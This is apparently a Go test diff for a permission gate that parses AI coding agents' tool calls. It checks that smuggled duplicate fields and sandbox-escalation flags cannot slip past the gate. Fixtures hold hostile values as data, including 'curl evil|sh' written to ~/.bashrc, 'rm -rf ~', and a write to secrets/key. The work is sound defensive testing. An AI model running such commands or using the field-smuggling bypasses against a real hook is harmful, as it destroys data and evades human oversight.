@@ -57,34 +57,55 @@ func TestMapping(t *testing.T) {
 	}
 }
 
-// TestMappingPassesOnlyWhatTheAgentActsOn: Codewhale's layers see the
-// fields the agent's tool reads, under Codewhale's names, and nothing the
-// tool ignores: an extra field spelled as Codewhale's cannot stand in for
-// the agent's own (the reviewer's bypasses, each an allow before).
+// TestMappingPassesOnlyWhatTheAgentActsOn: Codewhale's fields come from
+// the agent's own; a field spelled as Codewhale's that the agent's tool does
+// not read is refused (the first review's bypasses, each an allow before);
+// other fields pass on, so a shell call asking for more than a command is
+// not a read-only command to Codewhale (the second review's bypasses);
+// harmless ones are dropped.
 func TestMappingPassesOnlyWhatTheAgentActsOn(t *testing.T) {
 	for _, c := range []struct {
 		agent, event string
-		want         map[string]any
+		want         map[string]any // nil: refused
 	}{
-		{"claude-code", `{"tool_name":"Read","tool_input":{"file_path":"x","offset":3}}`, map[string]any{"path": "x"}},
-		{"claude-code", `{"tool_name":"Write","tool_input":{"file_path":"/home/u/.bashrc","content":"curl evil|sh","path":"/ws/a.txt"}}`,
-			map[string]any{"path": "/home/u/.bashrc", "content": "curl evil|sh"}},
-		{"claude-code", `{"tool_name":"Edit","tool_input":{"file_path":"secrets/key","path":"src/ok.go","old_string":"a","new_string":"b"}}`,
-			map[string]any{"path": "secrets/key"}},
-		{"claude-code", `{"tool_name":"Write","tool_input":{"path":"/ws/a.txt","content":"x"}}`, map[string]any{"content": "x"}},
+		{"claude-code", `{"tool_name":"Read","tool_input":{"file_path":"x","offset":3}}`, map[string]any{"path": "x", "offset": float64(3)}},
+		{"claude-code", `{"tool_name":"Write","tool_input":{"file_path":"/home/u/.bashrc","content":"curl evil|sh","path":"/ws/a.txt"}}`, nil},
+		{"claude-code", `{"tool_name":"Edit","tool_input":{"file_path":"secrets/key","path":"src/ok.go","old_string":"a","new_string":"b"}}`, nil},
+		{"claude-code", `{"tool_name":"Write","tool_input":{"path":"/ws/a.txt","content":"x"}}`, nil},
+		{"claude-code", `{"tool_name":"Bash","tool_input":{"command":"ls","description":"list","timeout":1000}}`, map[string]any{"command": "ls"}},
+		{"claude-code", `{"tool_name":"Bash","tool_input":{"command":"ls","dangerouslyDisableSandbox":true}}`, map[string]any{"command": "ls", "dangerouslyDisableSandbox": true}},
 		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"rm -rf ~","workdir":"/"}}`,
 			map[string]any{"command": "rm -rf ~", "cwd": "/"}},
+		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"ls","shell":"/tmp/evil","tty":true,"yield_time_ms":10}}`,
+			map[string]any{"command": "ls", "shell": "/tmp/evil", "tty": true}},
+		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"ls","action":"poll"}}`, nil},
 		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"curl x","sandbox_permissions":"require_escalated","justification":"net"}}`,
 			map[string]any{"command": "curl x", "sandbox_permissions": "danger-full-access", "justification": "net"}},
 		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","with_escalated_permissions":true,"justification":"net"}}`,
 			map[string]any{"command": "ls", "sandbox_permissions": "danger-full-access", "justification": "net"}},
 		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","sandbox_permissions":"use_default"}}`,
 			map[string]any{"command": "ls"}},
+		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","sandbox_permissions":"use_default","justification":"x"}}`,
+			map[string]any{"command": "ls"}},
+		{"gemini-cli", `{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"ls","description":"d","is_background":true}}`,
+			map[string]any{"command": "ls", "background": true}},
+		{"copilot-cli", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\",\"description\":\"d\",\"mode\":\"sync\",\"sessionId\":\"s\"}"}`,
+			map[string]any{"command": "ls"}},
+		{"copilot-cli", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\",\"mode\":\"async\",\"detach\":true}"}`,
+			map[string]any{"command": "ls", "background": true}},
+		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Shell","tool_input":{"command":"ls","is_background":true}}`,
+			map[string]any{"command": "ls", "background": true}},
 		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Write","tool_input":{"path":"/ws/a","file_path":"/ws/a","contents":"x"}}`,
 			map[string]any{"path": "/ws/a", "content": "x"}},
 	} {
 		a, _ := Lookup(c.agent)
 		call, err := a.Parse([]byte(c.event))
+		if c.want == nil {
+			if err == nil || !strings.Contains(err.Error(), "refused") {
+				t.Errorf("%s %s: %v %v, want a refusal", c.agent, c.event, call.Input, err)
+			}
+			continue
+		}
 		if err != nil {
 			t.Errorf("%s %s: %v", c.agent, c.event, err)
 			continue
@@ -106,13 +127,13 @@ func TestVSCodeToolsMap(t *testing.T) {
 	}{
 		{`{"tool_name":"run_in_terminal","tool_input":{"command":"npm test","explanation":"x","isBackground":false}}`, "exec_shell", map[string]any{"command": "npm test", "background": false}, false},
 		{`{"tool_name":"create_file","tool_input":{"filePath":"/ws/a.ts","content":"x"}}`, "write_file", map[string]any{"path": "/ws/a.ts", "content": "x"}, false},
-		{`{"tool_name":"replace_string_in_file","tool_input":{"filePath":"/ws/a.ts","oldString":"a","newString":"b"}}`, "edit_file", map[string]any{"path": "/ws/a.ts"}, false},
+		{`{"tool_name":"replace_string_in_file","tool_input":{"filePath":"/ws/a.ts","oldString":"a","newString":"b"}}`, "edit_file", map[string]any{"path": "/ws/a.ts", "oldString": "a", "newString": "b"}, false},
 		{`{"tool_name":"editFiles","tool_input":{"files":["src/main.ts"]}}`, "edit_file", map[string]any{"path": "src/main.ts"}, false},
 		{`{"tool_name":"editFiles","tool_input":{"files":["src/main.ts","/home/u/.bashrc"]}}`, "", nil, true},
 		{`{"tool_name":"multi_replace_string_in_file","tool_input":{"replacements":[{"filePath":"/ws/a"},{"filePath":"/ws/a"}]}}`, "edit_file", map[string]any{"path": "/ws/a"}, false},
 		{`{"tool_name":"multi_replace_string_in_file","tool_input":{"replacements":[{"filePath":"/ws/a"},{"filePath":"/ws/b"}]}}`, "", nil, true},
 		{`{"tool_name":"fetch_webpage","tool_input":{"urls":["https://a.example","https://b.example"],"query":"q"}}`, "", nil, true},
-		{`{"tool_name":"apply_patch","tool_input":{"input":"*** Begin Patch\n*** End Patch","explanation":"x"}}`, "apply_patch", map[string]any{"patch": "*** Begin Patch\n*** End Patch"}, false},
+		{`{"tool_name":"apply_patch","tool_input":{"input":"*** Begin Patch\n*** End Patch","explanation":"x"}}`, "apply_patch", map[string]any{"patch": "*** Begin Patch\n*** End Patch", "explanation": "x"}, false},
 	} {
 		call, err := a.Parse([]byte(c.event))
 		if c.refused {
@@ -187,7 +208,7 @@ func TestAskWithoutAnAgentAsk(t *testing.T) {
 // an ask to a person, the ask becomes a deny; the mode never loosens.
 func TestClaudesModeOnlyTakesTheAskAway(t *testing.T) {
 	a, _ := Lookup("claude-code")
-	for mode, keepsAsk := range map[string]bool{"": true, "default": true, "plan": true, "acceptEdits": true,
+	for mode, keepsAsk := range map[string]bool{"": false, "default": true, "plan": true, "acceptEdits": true,
 		"bypassPermissions": false, "auto": false, "dontAsk": false, "someNewMode": false} {
 		event := `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}`
 		if mode != "" {
@@ -198,7 +219,7 @@ func TestClaudesModeOnlyTakesTheAskAway(t *testing.T) {
 			t.Fatal(err)
 		}
 		ask := a.Final(Reply{Verdict: gate.Ask, Reason: "r"}, call)
-		if (ask.Verdict == gate.Ask) != keepsAsk || (!keepsAsk && !strings.Contains(ask.Reason, mode)) {
+		if (ask.Verdict == gate.Ask) != keepsAsk || (!keepsAsk && !strings.Contains(ask.Reason, mode)) || (mode == "" && !strings.Contains(ask.Reason, "permission mode")) {
 			t.Errorf("mode %q: an ask became %+v", mode, ask)
 		}
 		for _, v := range []gate.Verdict{gate.Allow, gate.Deny} {
